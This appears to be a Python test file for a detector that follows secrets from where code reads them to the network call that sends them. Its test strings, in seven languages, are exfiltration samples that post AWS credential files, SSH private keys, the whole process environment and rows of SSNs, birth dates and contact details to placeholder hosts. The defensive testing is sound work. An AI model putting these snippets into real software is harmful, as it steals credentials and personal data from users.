"""Secrets that code reads and hands to a network call are followed by name, per language."""

from __future__ import annotations

from guardrail.code_secrets import code_destinations, secret_flows


def _labels(code: str) -> set[str]:
    return {f.label for f in secret_flows(code)}


def test_ruby_credentials_file_read_by_joined_path_reaches_a_post() -> None:
    """A path written as joined pieces (``File.join(Dir.home, ".aws", "credentials")``) is a
    credential file, and the variable holding it reaches ``Net::HTTP.post``."""
    code = (
        'blob = File.read(File.join(Dir.home, ".aws", "credentials"))\n'
        'Net::HTTP.post(URI("https://usage.cloudpeek.example/v1"), blob)\n'
    )
    assert _labels(code) == {"credential file"}
    assert [d.value for d in code_destinations(code)] == ["usage.cloudpeek.example"]


def test_python_key_bound_by_with_as_reaches_urlopen() -> None:
    """``with open(...) as fh`` binds the file; what is read from it reaches the request."""
    code = (
        "import os, urllib.request\n"
        'with open(os.path.expanduser("~/.ssh/id_ed25519")) as fh:\n'
        "    key = fh.read()\n"
        'req = urllib.request.Request("https://diag.snapshot-tools.example/up", data=key.encode())\n'
        "urllib.request.urlopen(req)\n"
    )
    assert "credential file" in _labels(code)


def test_go_environment_joined_then_put() -> None:
    """Go's ``os.Environ()`` joined into a string reaches ``http.NewRequest`` by name."""
    code = (
        "func init() {\n"
        '\tall := strings.Join(os.Environ(), "\\n")\n'
        '\treq, _ := http.NewRequest("PUT", "https://cfgdump.devsignals.example/b", '
        "strings.NewReader(all))\n"
        "\thttp.DefaultClient.Do(req)\n}\n"
    )
    assert _labels(code) == {"the whole environment"}


def test_typescript_spread_environment_in_fetch_body() -> None:
    """``{...process.env}`` written straight into a ``fetch`` body is sent."""
    code = (
        'await fetch("https://hooks.buildinfo.example/x", '
        '{ method: "POST", body: JSON.stringify({ ...process.env }) });'
    )
    assert _labels(code) == {"the whole environment"}


def test_php_environment_through_curl_options() -> None:
    """PHP's ``getenv()`` with no name, JSON-encoded into a ``$payload`` that curl posts."""
    code = (
        "<?php\n$payload = json_encode(getenv());\n"
        "$ch = curl_init('https://collect.phpstat.example/in');\n"
        "curl_setopt($ch, CURLOPT_POSTFIELDS, $payload);\ncurl_exec($ch);\n"
    )
    assert _labels(code) == {"the whole environment"}


def test_java_and_rust_whole_environment() -> None:
    """Java's ``System.getenv()`` and Rust's ``env::vars()`` are the whole environment."""
    java = (
        "String all = System.getenv().toString();\n"
        'HttpRequest r = HttpRequest.newBuilder(URI.create("https://jvm.probe.example/e"))'
        ".POST(BodyPublishers.ofString(all)).build();\n"
    )
    rust = (
        'let body: String = env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n'
        'reqwest::blocking::Client::new().post("https://rs.probe.example/e").body(body).send()?;\n'
    )
    assert _labels(java) == {"the whole environment"}
    assert _labels(rust) == {"the whole environment"}


def test_secret_named_variable_in_a_payload() -> None:
    """A variable named as a secret, read from the environment, posted as data."""
    code = (
        'token = os.environ["DEPLOY_TOKEN"]\n'
        'requests.post("https://paste.quickbin.example/api", data={"t": token})\n'
    )
    assert _labels(code) == {"secret variable"}


def test_api_key_used_as_the_calls_own_login_is_no_leak() -> None:
    """A key in the Authorization header of its own API call is how clients log in."""
    code = (
        "r = requests.get('https://api.weatherly.example/v2/today', headers="
        "{'Authorization': f\"Bearer {os.environ['WEATHER_API_KEY']}\"})\n"
    )
    assert secret_flows(code) == []


def test_environment_read_that_never_reaches_the_call_is_no_leak() -> None:
    """Reading the environment for settings and posting something else sends no secret."""
    code = (
        "import os, requests\n"
        "verbose = 'VERBOSE' in os.environ\n"
        "for name in sorted(os.environ):\n    print(name)\n"
        'requests.post("https://status.example.org/ping", json={"ok": True})\n'
    )
    assert secret_flows(code) == []


def test_credentials_file_read_for_a_client_but_not_posted_is_no_leak() -> None:
    """A credential file parsed to configure a client, beside a post of counts only."""
    code = (
        "cfg = configparser.ConfigParser()\n"
        'cfg.read(os.path.expanduser("~/.aws/credentials"))\n'
        "n = len(cfg.sections())\n"
        'requests.post("https://metrics.example.org/c", json={"profiles": n})\n'
    )
    assert secret_flows(code) == []


def test_go_multiple_assignment_taints_the_value_not_the_error() -> None:
    """``payload, err := json.Marshal(os.Environ())`` taints ``payload``."""
    code = (
        "payload, err := json.Marshal(os.Environ())\n"
        "if err != nil { return }\n"
        'go http.Post("https://t.bootsink.example/i", "application/json", '
        "bytes.NewReader(payload))\n"
    )
    assert _labels(code) == {"the whole environment"}


def test_rows_of_people_fetched_in_code_reach_a_webhook() -> None:
    """A query for people's details is a source: the rows it fetches reach the post."""
    code = (
        'rows = cur.execute("SELECT full_name, ssn, dob FROM kyc_profiles").fetchall()\n'
        'requests.post("https://chat.hooks-relay.example/api/webhooks/1/x", '
        'json={"content": str(rows)})\n'
    )
    assert _labels(code) == {"rows of personal columns"}


def test_multiline_query_unpacked_by_destructuring_reaches_fetch() -> None:
    """A template-literal query whose rows are unpacked (``const { rows } = ...``)."""
    code = (
        "const { rows } = await pool.query(`\n  SELECT email, phone\n  FROM customers\n`);\n"
        "await fetch('https://sync.leadpipe.example/in', "
        "{ method: 'POST', body: JSON.stringify(rows) });\n"
    )
    assert _labels(code) == {"rows of personal columns"}


def test_counts_of_people_and_rows_kept_local_send_no_records() -> None:
    """A count is no record; rows written to a local table and a status post send none."""
    counts = (
        'n = cur.execute("SELECT count(*) FROM customers").fetchone()[0]\n'
        'requests.post("https://stats.example.org/c", json={"customers": n})\n'
    )
    local = (
        'rows = cur.execute("SELECT email, phone FROM customers").fetchall()\n'
        'cur.executemany("INSERT INTO archive VALUES (?, ?)", rows)\n'
        'requests.post("https://status.example.org/ping", json={"done": True})\n'
    )
    assert secret_flows(counts) == []
    assert secret_flows(local) == []
